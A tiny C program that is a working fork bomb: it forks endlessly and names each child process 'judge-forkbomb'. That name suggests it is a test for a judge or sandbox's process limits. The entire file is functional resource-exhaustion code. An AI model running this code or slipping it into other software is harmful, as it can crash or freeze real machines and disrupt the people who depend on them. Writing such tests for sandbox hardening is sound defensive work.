/* A fork bomb: every process forks forever; the children set a recognisable name. */
#include <sys/prctl.h>
#include <unistd.h>
int main(void) {
    for (;;) {
        if (fork() == 0) prctl(PR_SET_NAME, "judge-forkbomb");
    }
}
